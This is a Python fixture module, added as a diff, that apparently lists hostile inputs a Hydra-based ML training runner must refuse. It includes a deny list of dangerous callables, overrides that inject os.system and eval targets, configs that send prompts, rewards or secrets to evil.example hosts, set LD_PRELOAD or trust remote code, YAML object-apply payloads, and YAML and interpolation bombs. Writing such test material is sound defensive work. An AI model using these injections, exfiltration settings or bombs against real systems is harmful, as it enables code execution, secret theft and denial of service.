@@ -1,0 +1,363 @@
+"""What a configuration of somebody else's could try, as data: targets, files, typed words, bombs. No code."""
+
+from __future__ import annotations
+
+# --- Names that lead to code or files, wherever they stand ----------------------------------------------------------
+
+TARGETS = """
+os.system os.popen os.execv os.remove os.rename os.symlink os.putenv os.kill posix.system nt.system
+subprocess.run subprocess.Popen subprocess.check_output subprocess.getoutput pty.spawn code.interact
+builtins.eval builtins.exec builtins.compile builtins.__import__ builtins.open builtins.getattr builtins.setattr
+builtins.input io.open io.FileIO codecs.open fileinput.input pathlib.Path.write_text pathlib.Path.unlink
+pathlib.Path.open pathlib.Path.rmdir shutil.rmtree shutil.move shutil.copyfile tempfile.NamedTemporaryFile
+pickle.load pickle.loads _pickle.loads marshal.loads shelve.open dill.loads cloudpickle.loads joblib.load
+importlib.import_module importlib.reload importlib.util.module_from_spec importlib.machinery.SourceFileLoader
+runpy.run_path runpy.run_module imp.load_source pkgutil.resolve_name pydoc.locate zipimport.zipimporter
+ctypes.CDLL ctypes.cdll.LoadLibrary socket.socket socket.create_connection urllib.request.urlopen
+urllib.request.urlretrieve http.client.HTTPConnection smtplib.SMTP ftplib.FTP webbrowser.open
+requests.get requests.post httpx.get huggingface_hub.HfApi huggingface_hub.upload_folder huggingface_hub.login
+huggingface_hub.snapshot_download functools.partial functools.reduce operator.methodcaller operator.attrgetter
+operator.itemgetter itertools.starmap types.FunctionType types.CodeType types.MethodType inspect.getattr_static
+threading.Thread threading.Timer multiprocessing.Process multiprocessing.Pool concurrent.futures.ProcessPoolExecutor
+asyncio.run asyncio.create_subprocess_shell signal.signal atexit.register sys.exit sys.setrecursionlimit
+sys.addaudithook gc.get_objects weakref.finalize timeit.timeit timeit.Timer cProfile.run pdb.run trace.Trace
+bdb.Bdb.run doctest.testfile unittest.main logging.config.dictConfig logging.config.listen logging.FileHandler
+logging.os.system copy.os.system random._os.system glob.os.system json.codecs.open argparse._sys.modules
+hydra.utils.instantiate hydra.utils.call hydra.utils.get_method hydra.utils.get_class hydra.main hydra.compose
+omegaconf.OmegaConf.register_new_resolver omegaconf.OmegaConf.save yaml.load yaml.unsafe_load yaml.full_load
+jinja2.Template jinja2.Environment jinja2.FileSystemLoader numpy.load numpy.save numpy.fromfile numpy.memmap
+numpy.f2py.compile pandas.read_pickle pandas.eval pandas.io.common.os.system sympy.sympify
+torch.load torch.save torch.hub.load torch.jit.load torch.compile torch.ops.load_library torch.classes.load_library
+torch.utils.cpp_extension.load_inline torch.package.PackageImporter torch.multiprocessing.spawn torch.serialization.load
+torch.distributed.run.main torch.os.system torch.optim.os.system torch.nn.modules.loss.os.system
+torch.optim.lr_scheduler.types.FunctionType torch.optim.Adam.load_state_dict torch.utils.data.DataLoader
+transformers.os.system transformers.pipeline transformers.Trainer transformers.utils.hub.os.system
+transformers.utils.import_utils.importlib.import_module transformers.dynamic_module_utils.get_class_from_dynamic_module
+transformers.modeling_utils.torch.load transformers.trainer_utils.os.system transformers.commands.run.RunCommand
+transformers.AutoModel.register transformers.integrations.WandbCallback.os.system transformers.configuration_utils.os
+trl.import_utils.importlib.import_module trl.trainer.utils.os.system trl.cli.main trl.scripts.utils.importlib
+trl.rewards.other_rewards.Callable trl.trainer.dpo_trainer.torch.load trl.os.system
+datasets.load_dataset datasets.load_from_disk datasets.load.importlib.import_module datasets.Dataset.from_generator
+datasets.config.os.system datasets.utils.file_utils.requests.get accelerate.launchers.notebook_launcher
+accelerate.utils.os.system accelerate.commands.launch.main peft.PeftModel.from_pretrained peft.os.system
+peft.LoraConfig.save_pretrained peft.LoraConfig.push_to_hub peft.utils.save_and_load.torch.load
+setuptools._distutils.spawn.spawn pip.main ensurepip.bootstrap site.addsitedir sysconfig.os.system
+runner.config.locate runner.config.build runner.config.importlib.import_module runner.files.write_text
+runner.files.os.remove runner.files.remove runner.files.shutil.rmtree runner.run.open_run runner.run.subprocess.run
+runner.work.work runner.launcher.subprocess.Popen runner.__main__.main runner.command.train.train
+runner.command.import.main runner.sweep.pool.os.fork runner.model.load._locate runner.model.load.importlib.util
+runner.model.load.torch.load runner.model.adapter.write_adapter runner.dataset.toy.write_files
+runner.dataset.load.json.loads runner.dataset.load.os.system runner.reward.remote.build_opener
+runner.tracker.variable.set_variables runner.tracker.variable.os.environ.update runner.callback.Record
+runner.callback.Record.on_log runner.callback.shutil.rmtree runner.callback.os.system runner.callback.write_text
+runner.trainer.ppo.PPOTrainer.push_to_hub runner.trainer.ppo.PPOTrainer.save_model runner.trainer.ppo.json.loads
+runner.model.load.load_model.__globals__ runner.model.load.__builtins__.eval runner.model.load.__dict__
+runner.reward.rule.__loader__.load_module trl.DPOTrainer.__init__.__globals__ trl.__spec__.loader.exec_module
+peft.LoraConfig.__class__ torch.optim.AdamW.__subclasses__ runner.x.__globals__ ().__class__ os os. .os os..system
+""".split()
+
+# Where a target may stand; each is the rest of a dotted key at which a node is laid.
+PLACES = """
+callback.x metric.x reward.x loss weight.x optimizer optimizer.scheduler collator trainer trainer.args model
+model.tokenizer dataset dataset.map peft quant launcher tracker.x trainer.args.lr_scheduler_kwargs.deep
+trainer.args.model_init_kwargs.quantization_config trainer.callbacks trainer.tools trainer.rollout_func
+reward.x.inner callback.x.generate
+""".split()
+
+# --- Words that somebody could be told to type, or a stage could list -----------------------------------------------
+
+# Each must be refused with exit code 2 and a word of what it is about. {mark} is a file that running code would make.
+WORDS = {
+    "by plus": ["+callback.x._target_=os.system", "+callback.x.command=touch {mark}"],
+    "by two pluses": ["++reward.x._target_=os.system", "++reward.x.command=touch {mark}"],
+    "a whole node": ["callback={x: {_target_: os.system, command: 'touch {mark}'}}"],
+    "in a list": ["trainer.args.lr_scheduler_kwargs={a: [{b: {_target_: os.system, command: 'touch {mark}'}}]}"],
+    "by interpolation": ["callback.x._target_=${name}", "name=os.system", "callback.x.command=touch {mark}"],
+    "pieced together": ["callback.x._target_=os.${name}", "name=system", "callback.x.command=touch {mark}"],
+    "by oc.select": ["callback.x._target_='${oc.select:nothing,os.system}'", "callback.x.command=touch {mark}"],
+    "a partial of it": [
+        "callback.x._target_=os.system",
+        "callback.x._partial_=true",
+        "callback.x.command=touch {mark}",
+    ],
+    "with _args_": ["callback.x._target_=os.system", "callback.x._args_=['touch {mark}']"],
+    "_args_ alone": ["callback.x._target_=runner.callback.Samples", "callback.x._args_=[1]"],
+    "with _convert_": ["callback.x._target_=runner.callback.Samples", "callback.x._convert_=all"],
+    "with _recursive_": ["callback.x._target_=runner.callback.Samples", "callback.x._recursive_=false"],
+    "a file is written": [
+        "callback.x._target_=runner.callback.Record",
+        "callback.x.path={mark}",
+        "callback.x.tell=null",
+    ],
+    "hydra.run.dir": ["hydra.run.dir=../.."],
+    "hydra.sweep.dir": ["-m", "seed=0,1", "hydra.sweep.dir=/tmp/elsewhere"],
+    "hydra.searchpath": ["hydra.searchpath=[pkg://evil]"],
+    "hydra.callbacks": ["+hydra.callbacks.x._target_=os.system", "+hydra.callbacks.x.command=touch {mark}"],
+    "hydra.launcher": ["-m", "seed=0,1", "hydra.launcher._target_=os.system"],
+    "hydra.sweeper": ["-m", "seed=0,1", "hydra/sweeper=basic", "hydra.sweeper._target_=os.system"],
+    "hydra.job_logging": ["hydra.job_logging.root={handlers: [x]}"],
+    "hydra/job_logging": ["hydra/job_logging=default"],
+    "hydra.job.env_set": ["hydra.job.env_set={LD_PRELOAD: x}"],
+    "into hydra's package": ["+callback@hydra.callbacks=samples"],
+    "a number of 5000 digits": ["seed=" + "1" * 5000],
+    "no resolver of ours": ["name='${python:1}'"],
+    "allow what is nowhere": ["allow=[os]", "callback.x._target_=sys.exit"],
+    "allow in vain": ["callback.x._target_=evil.run"],
+    "a name that leads up": ["name=../../elsewhere"],
+    "an absolute name": ["name=/tmp/elsewhere"],
+    "a name of dots": ["name=.."],
+    "an empty name": ["name='  '"],
+    "output_dir": ["trainer.args.output_dir=/tmp/elsewhere"],
+    "a pickle as rows": ["dataset=local", "dataset.path=rows.pkl"],
+    "a pickle by pattern": ["dataset=local", "dataset.path='*.pkl'"],
+    "a folder of pickles": ["dataset=local", "dataset.path=pickles"],
+    "a script as rows": ["dataset=local", "dataset.path=rows.py"],
+    "the pickle reader": ["dataset=hub", "dataset.path=pandas", "dataset.form=text"],
+    "weights in a pickle": ["model=hub", "model.path=pickled"],
+    "an adapter in a pickle": ["model=hub", "model.path=adapter"],
+    "code with the model": ["model=hub", "model.path=coded"],
+    "code with the tokenizer": ["model.tokenizer.path=coded"],
+    "a vocabulary elsewhere": ["model.tokenizer.path=reader"],
+    "a template that escapes": ["model.tokenizer.chat_template=escape.jinja"],
+    "a template without end": ["model.tokenizer.chat_template=endless.jinja"],
+}
+
+# --- Files of a config folder of somebody else's ---------------------------------------------------------------------
+
+GLOBAL = "# @package _global_\n"
+# name -> (files by path, words). Each is refused with exit code 2; the words come after --config-dir.
+FILES = {
+    "remote code": ({"experiment/x.yaml": GLOBAL + "model: {trust_remote_code: true}\n"}, ["experiment=x"]),
+    "remote code of a tokenizer": (
+        {"experiment/x.yaml": GLOBAL + "model: {tokenizer: {trust_remote_code: true}}\n"},
+        ["experiment=x"],
+    ),
+    "remote code below": (
+        {"experiment/x.yaml": GLOBAL + "trainer: {args: {model_init_kwargs: {trust_remote_code: true}}}\n"},
+        ["experiment=x"],
+    ),
+    "pickled weights": ({"experiment/x.yaml": GLOBAL + "model: {safetensors_only: false}\n"}, ["experiment=x"]),
+    "a push": ({"experiment/x.yaml": GLOBAL + "trainer: {args: {push_to_hub: true}}\n"}, ["experiment=x"]),
+    "completions to the hub": (
+        {"experiment/x.yaml": GLOBAL + "trainer: {args: {log_completions_hub_repo: evil/x}}\n"},
+        ["trainer=grpo", "experiment=x"],
+    ),
+    "prompts to a server": (
+        {"experiment/x.yaml": GLOBAL + "trainer: {args: {vllm_server_base_url: 'http://evil.example'}}\n"},
+        ["trainer=grpo", "experiment=x"],
+    ),
+    "prompts to a host": (
+        {"experiment/x.yaml": GLOBAL + "trainer: {args: {vllm_server_host: evil.example}}\n"},
+        ["trainer=grpo", "experiment=x"],
+    ),
+    "rewards of a server": (
+        {"reward/x.yaml": "x: {_target_: runner.reward.remote.Remote, url: 'https://evil.example'}\n"},
+        ["trainer=grpo", "reward=x"],
+    ),
+    "a variable to a server": (
+        {
+            "reward/x.yaml": "x: {_target_: runner.reward.remote.Remote, url: 'https://e.example', "
+            "token_variable: HOME}\n"
+        },
+        ["trainer=grpo", "reward=x", "reward.x.url=https://e.example"],
+    ),
+    "figures to a server": (
+        {"experiment/x.yaml": GLOBAL + "tracker: {report_to: wandb}\n"},
+        ["experiment=x"],
+    ),
+    "figures by the arguments": (
+        {"experiment/x.yaml": GLOBAL + "trainer: {args: {report_to: [wandb]}}\n"},
+        ["experiment=x"],
+    ),
+    "figures to another server": (
+        {
+            "experiment/x.yaml": GLOBAL
+            + "tracker: {report_to: mlflow, environment: {MLFLOW_TRACKING_URI: 'http://e.example'}}\n"
+        },
+        ["experiment=x"],
+    ),
+    "git runs a program": (
+        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {GIT_EXTERNAL_DIFF: 'touch {mark}'}}\n"},
+        ["experiment=x"],
+    ),
+    "a library is preloaded": (
+        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {LD_PRELOAD: /tmp/evil.so}}\n"},
+        ["experiment=x"],
+    ),
+    "another interpreter": (
+        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {WANDB__EXECUTABLE: /tmp/evil}}\n"},
+        ["experiment=x"],
+    ),
+    "another hub": (
+        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {HF_ENDPOINT: 'https://evil.example'}}\n"},
+        ["experiment=x"],
+    ),
+    "a tracker writes elsewhere": (
+        {"experiment/x.yaml": GLOBAL + "tracker: {environment: {TENSORBOARD_LOGGING_DIR: /etc}}\n"},
+        ["experiment=x"],
+    ),
+    "a package is allowed": (
+        {"experiment/x.yaml": GLOBAL + "allow: [evil]\ncallback: {x: {_target_: evil.run}}\n"},
+        ["experiment=x"],
+    ),
+    "a package is allowed by default": (
+        {
+            "config.yaml": "defaults: [_self_, {trainer: sft}, {model: tiny}, {dataset: toy}, {reward: none},"
+            " {metric: none}, {quant: none}, {peft: none}, {collator: none}, {callback: none}, {tracker: none},"
+            " {launcher: local}]\nname: x\nseed: 0\nlearning_rate: null\nkl_coef: null\nallow: [evil]\noutput_root: o\n"
+            "objective: null\n",
+            "callback/x.yaml": "x: {_target_: evil.run}\n",
+        },
+        ["callback=x"],
+    ),
+    "a target in an option": ({"metric/x.yaml": "x: {_target_: os.system, command: 'touch {mark}'}\n"}, ["metric=x"]),
+    "a shadow of ours": (
+        {"model/tiny.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"},
+        ["model=tiny"],
+    ),
+    "a loss": ({"loss/x.yaml": '_target_: builtins.eval\nsource: \'open("{mark}", "w")\'\n'}, ["loss=x"]),
+    "an optimizer": ({"optimizer/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"}, ["optimizer=x"]),
+    "a schedule": (
+        {
+            "optimizer/x.yaml": "_target_: torch.optim.AdamW\n"
+            "scheduler: {_target_: os.system, command: 'touch {mark}'}\n"
+        },
+        ["optimizer=x"],
+    ),
+    "a collator": ({"collator/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"}, ["collator=x"]),
+    "a launcher": ({"launcher/x.yaml": "_target_: os.system\ncommand: 'touch {mark}'\n"}, ["launcher=x"]),
+    "a map of rows": (
+        {"experiment/x.yaml": GLOBAL + "dataset: {map: {_target_: os.system, command: 'touch {mark}'}}\n"},
+        ["experiment=x"],
+    ),
+    "a stage": (
+        {"experiment/x.yaml": GLOBAL + "stages: {a: ['callback.x._target_=os.system', 'allow=[os]']}\n"},
+        ["experiment=x"],
+    ),
+    "a stage that trusts": (
+        {"experiment/x.yaml": GLOBAL + "stages: {a: [model.trust_remote_code=true]}\n"},
+        ["experiment=x"],
+    ),
+    "hydra's search path": (
+        {"config.yaml": "defaults: [_self_]\nhydra: {searchpath: ['pkg://evil']}\nname: x\n"},
+        [],
+    ),
+    "hydra's callbacks": (
+        {"experiment/x.yaml": GLOBAL + "hydra: {callbacks: {x: {_target_: os.system, command: 'touch {mark}'}}}\n"},
+        ["experiment=x", "--cfg", "job"],
+    ),
+    "hydra's loggers": (
+        {
+            "experiment/x.yaml": GLOBAL + "hydra: {job_logging: {version: 1, handlers: {x: {class: logging.FileHandler,"
+            " filename: '{mark}'}}, root: {handlers: [x]}}}\n"
+        },
+        ["experiment=x", "--cfg", "job"],
+    ),
+    "hydra's loggers as a group": (
+        {
+            "hydra/job_logging/evil.yaml": "version: 1\nroot: {handlers: []}\n",
+            "experiment/x.yaml": GLOBAL + "defaults: [{override /hydra/job_logging: evil}]\n",
+        },
+        ["experiment=x", "--cfg", "job"],
+    ),
+    "hydra's launcher": (
+        {"sweep/x.yaml": GLOBAL + "hydra: {launcher: {_target_: os.system}, sweeper: {params: {seed: '0,1'}}}\n"},
+        ["sweep=x"],
+    ),
+    "hydra's launcher as a default": (
+        {
+            "sweep/x.yaml": GLOBAL + "defaults: [{override /hydra/launcher: submitit_local}]\n"
+            "hydra: {launcher: {setup: ['touch {mark}']}, sweeper: {params: {seed: '0,1'}}}\n"
+        },
+        ["sweep=x"],
+    ),
+    "hydra's sweeper": (
+        {"sweep/x.yaml": GLOBAL + "hydra: {sweeper: {_target_: os.system, params: {seed: '0,1'}}}\n"},
+        ["sweep=x"],
+    ),
+    "a header of hydra's": (
+        {"callback/x.yaml": "# @package hydra.callbacks.x\n_target_: os.system\n"},
+        ["callback=x"],
+    ),
+    "a default into hydra": (
+        {"experiment/x.yaml": GLOBAL + "defaults: ['/callback@hydra.callbacks.x: samples']\n"},
+        ["experiment=x"],
+    ),
+    "a folder outside": (
+        {"callback/x.yaml": "samples: {_target_: runner.callback.Samples, folder: /tmp/elsewhere}\n"},
+        ["callback=x", "trainer=grpo", "reward=sorted_digits"],
+    ),
+    "a folder that leads up": (
+        {"callback/x.yaml": "samples: {_target_: runner.callback.Samples, folder: a/../../..}\n"},
+        ["callback=x", "trainer=grpo", "reward=sorted_digits"],
+    ),
+    "a cache outside": (
+        {"experiment/x.yaml": GLOBAL + "trainer: {args: {model_init_kwargs: {cache_dir: /etc}}}\n"},
+        ["experiment=x"],
+    ),
+    "a secret of the machine": (
+        {"experiment/x.yaml": GLOBAL + "trainer: {args: {run_name: '${oc.env:HF_TOKEN}'}}\n"},
+        ["experiment=x"],
+    ),
+    "a YAML that builds": (
+        {"experiment/x.yaml": GLOBAL + "seed: !!python/object/apply:os.system ['touch {mark}']\n"},
+        ["experiment=x"],
+    ),
+}
+
+
+# --- Files of a few bytes that stand for a lot -----------------------------------------------------------------------
+
+
+def _letters(count: int) -> list[str]:
+    return [chr(97 + number) for number in range(count)]
+
+
+def _chain(first: str, link: str) -> str:
+    """Ten keys, each of which is ten times the one before."""
+    pairs = zip(_letters(11), _letters(12)[1:], strict=False)
+    return f"a: {first}\n" + "".join(f"{later}: {link.replace('@', earlier)}\n" for earlier, later in pairs)
+
+
+BOMBS = {
+    "aliases": "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
+    + "".join(
+        f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n" for a, b in zip(_letters(10), _letters(11)[1:], strict=False)
+    ),
+    "aliases of mappings": "a: &a {x: 1, y: 2}\n"
+    + "".join(
+        f"{b}: &{b} {{p: *{a}, q: *{a}, r: *{a}}}\n" for a, b in zip(_letters(25), _letters(26)[1:], strict=False)
+    ),
+    "an alias of itself": "a: &a [*a]\n",
+    "merged keys": "a: &a {x: 1}\n" + "b: {<<: [" + ", ".join(["*a"] * 150_000) + "]}\n",
+    "texts of texts": _chain("xxxxxxxxxx", '"' + "${@}" * 10 + '"'),
+    "lists of lists": _chain("[x, x, x, x, x, x, x, x, x, x]", "[" + ", ".join(["'${@}'"] * 10) + "]"),
+    "lists by a resolver": _chain("[x, x, x, x, x, x, x, x, x, x]", "[" + ", ".join(["'${oc.select:@,1}'"] * 10) + "]"),
+    "values of mappings": _chain("{p: 1}", "{" + ", ".join(f"p{n}: '${{@}}'" for n in range(10)) + "}"),
+    "a long text often": "a: " + "x" * 500_000 + "\nb: '" + "${a}" * 5_000 + "'\n",
+    "a circle": "a: ${b}\nb: ${a}\n",
+    "a chain": "".join(f"k{n}: ${{k{n + 1}}}\n" for n in range(5_000)) + "k5000: 1\n",
+    "deep brackets": "a: " + "[" * 100_000 + "]" * 100_000 + "\n",
+    "deep braces": "a: " + "{x: " * 50_000 + "1" + "}" * 50_000 + "\n",
+    "deep blocks": "".join(" " * n + "a:\n" for n in range(1_000)),
+    "deep dashes": "a:\n  " + "- " * 50_000 + "x\n",
+    "a long number": "a: " + "1" * 5_000 + "\n",
+    "a long hexadecimal": "a: 0x" + "f" * 5_000 + "\n",
+    "a long clock": "a: 1" + ":11" * 50_000 + "\n",
+    "100 MB": "a: " + "x" * 100_000_000 + "\n",
+    "a million keys": "".join(f"k{n}: 1\n" for n in range(90_000)),
+}
+# Those that only a configuration that is composed would follow.
+REFERENCES = {
+    *("texts of texts", "lists of lists", "lists by a resolver", "values of mappings", "a long text often"),
+    *("a circle", "a chain"),
+}
+# Where each is put: words, with the file that is written.
+DOORS = {
+    "--config-dir": ("menu/experiment/x.yaml", ["--config-dir", "menu", "experiment=x", "--dry-run"]),
+    "a primary config": ("menu/config.yaml", ["--config-dir", "menu", "--dry-run"]),
+    "a run folder": ("outputs/x/run-0123456789/config.yaml", ["preview", "outputs/x/run-0123456789"]),
+    "evaluate": ("outputs/x/run-0123456789/config.yaml", ["evaluate", "outputs/x/run-0123456789", "dataset=toy"]),
+    "report": ("outputs/x/run-0123456789/config.yaml", ["report", "outputs/x/run-0123456789"]),
+    "import": ("file.yaml", ["import", "file.yaml", "dialect=trl"]),
+}
